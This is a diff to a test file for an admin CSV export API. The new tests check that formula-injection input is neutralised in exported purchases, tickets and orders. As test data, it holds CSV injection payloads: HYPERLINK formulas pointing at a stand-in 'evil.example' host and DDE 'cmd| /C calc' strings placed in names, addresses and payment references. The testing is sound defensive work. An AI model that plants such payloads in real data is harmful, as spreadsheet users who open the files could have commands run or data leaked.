@@ -3,8 +3,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { eq } from 'drizzle-orm';
 import { schema } from '@club/db';
 import { ADMIN, startTestApi, type TestApi } from '../../test/harness.js';
-import { createMatch, createProduct } from '../../test/fixtures.js';
-import { csvField, toCsv } from './csv.js';
+import { createMatch, createProduct, makeSlip, receiptForm } from '../../test/fixtures.js';
+import { csvBaht, csvDate, csvField, toCsv } from './csv.js';
 
 let api: TestApi;
 let admin: string;
@@ -84,6 +84,28 @@ describe('CSV exports', () => {
     expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('\uFEFFa,b\r\n1,"x,y"\r\n');
   });
 
+  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), quoted so the quote stays', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?x","Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x"",""Click"")"');
+    expect(csvField('+66812345678')).toBe('"\'+66812345678"');
+    expect(csvField('-2+3')).toBe('"\'-2+3"');
+    expect(csvField('@SUM(A1:A9)')).toBe('"\'@SUM(A1:A9)"');
+    expect(csvField('\t=1+1')).toBe('"\'\t=1+1"');
+    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    expect(csvField('＝1+1')).toBe('"\'＝1+1"');
+    // Not at the start, or Thai: left alone.
+    expect(csvField('a=b+c')).toBe('a=b+c');
+    expect(csvField('สมชาย ใจดี')).toBe('สมชาย ใจดี');
+    expect(csvField('สมชาย-ใจดี, กรุงเทพฯ')).toBe('"สมชาย-ใจดี, กรุงเทพฯ"');
+  });
+
+  it('writes the figures the server computes as plain numbers, negative ones included', () => {
+    expect(csvField(csvBaht(75_000))).toBe('750.00');
+    expect(csvField(csvBaht(-15_000))).toBe('-150.00');
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(csvDate(new Date('2026-11-23T10:52:45Z')))).toBe('2026-11-23 17:52:45');
+    expect(toCsv(['amount', 'note'], [[csvBaht(-15_000), '-15,000 refund']])).toBe('\uFEFFamount,note\r\n-150.00,"\'-15,000 refund"\r\n');
+  });
+
   it("exports a match's purchases: one row each, with the buyer, amounts, status and reference, Thai and quotes intact", async () => {
     const { matchId, sold, rejected, pending } = await matchWithSales();
     const { res, bytes, text } = await download(`/api/v1/admin/exports/purchases.csv?match_id=${matchId}`);
@@ -137,6 +159,54 @@ describe('CSV exports', () => {
     });
     expect((await download('/api/v1/admin/exports/orders.csv?status=paid')).text).not.toContain(order.order_number);
     expect(asRecords((await download('/api/v1/admin/exports/orders.csv')).text).filter((r) => r.order_number === order.order_number)).toHaveLength(1);
+  });
+
+  it('exports hostile names, phones, reasons, addresses, promo codes and payment references as text, not formulas, amounts as numbers', async () => {
+    const EVIL = '=HYPERLINK("http://evil.example/?x","Click")';
+    const fan = await api.signUp({ name: EVIL });
+    // Tickets and purchases: the buyer's name as typed; a phone and a reason as legacy rows may hold them.
+    const matchId = await createMatch(db(), { priceSatang: 75_000 });
+    const [p] = await db().insert(schema.purchases).values({
+      userId: fan.id, matchId, quantity: 1, unitPriceSatang: 75_000, totalSatang: 75_000, status: 'rejected', phone: '+66812345678',
+      referenceNumber: `TK-${randomUUID().slice(0, 9)}`, expiresAt: new Date(Date.now() + 15 * 60_000), rejectedAt: new Date(), rejectionReason: '-1+cmd|\' /C calc\'!A0',
+    }).returning();
+    await db().insert(schema.tickets).values({ purchaseId: p!.id, seat: 1, ticketNumber: `T-${randomUUID().slice(0, 12)}` });
+
+    const purchasesFile = await download(`/api/v1/admin/exports/purchases.csv?match_id=${matchId}`);
+    expect(purchasesFile.text).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""Click"")"`);
+    expect(purchasesFile.text).not.toMatch(/(^|,)=HYPERLINK/m);
+    expect(asRecords(purchasesFile.text)[0]).toMatchObject({
+      buyer_name: `'${EVIL}`, phone: "'+66812345678", rejection_reason: "'-1+cmd|' /C calc'!A0", quantity: '1', unit_price_baht: '750.00', amount_baht: '750.00',
+    });
+    const ticketsFile = await download(`/api/v1/admin/exports/tickets.csv?match_id=${matchId}`);
+    expect(asRecords(ticketsFile.text)[0]).toMatchObject({ holder_name: `'${EVIL}`, phone: "'+66812345678", seat: '1' });
+    expect(ticketsFile.text).not.toMatch(/(^|,)[=+\-@]/m);
+
+    // Orders: a delivery address typed by the fan, a promo code an admin made, a payment reference sent with the slip.
+    const code = `-A1${Date.now().toString(36).toUpperCase()}`;
+    expect((await api.call('POST', '/api/v1/admin/promo-codes', { token: admin, json: { code, kind: 'fixed', value: 50 } })).status).toBe(201);
+    const product = await createProduct(db(), { stock: 5, priceSatang: 30_000 });
+    await api.call('POST', '/api/v1/cart/add', { token: fan.token, json: { product_id: product.id, quantity: 2 } });
+    expect((await api.call('POST', '/api/v1/cart/promo', { token: fan.token, json: { code } })).status).toBe(200);
+    const address = await api.call('POST', '/api/v1/shipping/addresses', { token: fan.token, json: {
+      recipient_name: '@SUM(1+1)*cmd|\' /C calc\'!A0', phone: '0812345678', address_line1: '=1+1', district: '-2+3', province: 'กรุงเทพฯ', postal_code: '10110',
+    } });
+    expect(address.status).toBe(201);
+    const [delivery] = (await api.call('GET', '/api/v1/shipping/methods')).body.data.filter((m: { type: string }) => m.type === 'delivery');
+    const created = await api.call('POST', '/api/v1/orders/create-from-cart', { token: fan.token, json: { shipping_method_id: delivery.id, delivery_address_id: address.body.data.address_id, notes: '=evil()' } });
+    expect(created.status).toBe(201);
+    const order = created.body.data.order;
+    const upload = await api.call('POST', `/api/v1/orders/${order.id}/payment-receipt`, { token: fan.token, body: receiptForm(await makeSlip(), 'slip.png', 'image/png', { payment_reference: '+HYPERLINK("http://evil.example")' }) });
+    expect(upload.status).toBe(201);
+
+    const ordersFile = await download('/api/v1/admin/exports/orders.csv?status=pending_payment');
+    const row = asRecords(ordersFile.text).find((r) => r.order_number === order.order_number);
+    expect(row).toMatchObject({
+      customer_name: `'${EVIL}`, promo_code: `'${code}`, payment_reference: `'+HYPERLINK("http://evil.example")`, ship_to: `'@SUM(1+1)*cmd|' /C calc'!A0, =1+1, -2+3, กรุงเทพฯ, 10110`,
+      subtotal_baht: '600.00', discount_baht: '50.00', total_baht: order.total_amount.toFixed(2),
+    });
+    // Every cell of every line: none begins like a formula outside the quotes.
+    for (const line of parseCsv(ordersFile.text.replace(/^\uFEFF/, ''))) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('refuses a bad match id or status, an unknown match, fans (403) and callers without a token (401)', async () => {
